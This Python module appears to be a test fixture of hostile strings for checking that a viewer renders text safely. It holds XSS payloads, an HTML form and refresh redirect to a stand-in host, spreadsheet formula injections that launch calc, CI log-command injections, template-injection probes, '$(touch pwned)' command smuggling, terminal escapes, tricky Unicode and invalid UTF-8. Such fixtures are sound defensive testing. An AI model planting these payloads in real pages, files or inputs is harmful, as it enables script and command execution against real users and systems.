"""Texts that would do something, if whoever shows them obeyed them.

What runs sets `window.__pwned`; what loads something asks evil.example.org for it. `browse.py` looks
for both.
"""

RUN = "window.__pwned=1"
AWAY = "https://evil.example.org"

HTML = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"\"><img src=x onerror={RUN}>",
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"</title></style></textarea><svg onload={RUN}>",
    "<!-- never closed",
    "--><!--><script>",
    "]]><![CDATA[",
    f"<a href=\"javascript:{RUN}\">here</a>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"<base href={AWAY}/><meta http-equiv=refresh content=\"0;url={AWAY}\">",
    f"<link rel=stylesheet href={AWAY}/x.css><style>*{{display:none}}</style>",
    f"<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe><form action={AWAY}><input>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;b&#62; &amp;amp;",
    f"<template><slot></template><math><mtext></form><mglyph><style></math><img onerror={RUN} src>",
]
TERMINAL = [
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J \x1b]8;;" + AWAY + "\x1b\\link\x1b]8;;\x1b\\",
    "overwritten\rthis\x08\x08\x7f\x0b\x0c",
]
ORDER = [
    "\u202egnirts\u202c \u2066isolate\u2069 \u200f\u061c",
    "zero\u200bwidth\u200c\u200djoined\ufeff\u00ad\u2060\u180e",
    "line\u2028separated\u2029paragraph\u0085next",
    "Z\u0337\u0351\u0352\u035d" * 20 + " \U0001f469\u200d\U0001f469\u200d\U0001f467 \u6f22\u5b57",
]
TABLES = [
    f"=HYPERLINK(\"{AWAY}\",\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "comma, \"quote\"; semicolon",
]
MARKDOWN = [
    f"[here](javascript:{RUN}) ![shown]({AWAY}/x.png)",
    "| cell | ``` code ` ~~~ *bold* _it_ # heading @mention #1",
    f"<{AWAY}> {AWAY} <!-- --> [ref]: {AWAY}",
]
COMMANDS = [
    "::error file=a.swift,line=1::taken over",
    "::set-output name=x::y %0A::add-mask::z",
    "##vso[task.setvariable variable=x]y ##[group]x",
    "section_start:1:x\\e[0K ${{ secrets.X }} $(touch pwned) `touch pwned`",
    "{{constructor.constructor('" + RUN + "')()}} ${7*7} <%= 7*7 %>",
]
LONG = ["W" * 10_000, "long words " * 900, "\u6f22" * 3_000]

TEXTS = HTML + TERMINAL + ORDER + TABLES + MARKDOWN + COMMANDS + LONG

# Not UTF-8: a lone continuation, a truncated sequence, an overlong slash, a surrogate, Latin-1.
BYTES = [b"\x80lone", b"cut \xe2\x82", b"over\xc0\xaflong", b"surrogate \xed\xa0\x80", b"caf\xe9 \xff\xfe"]
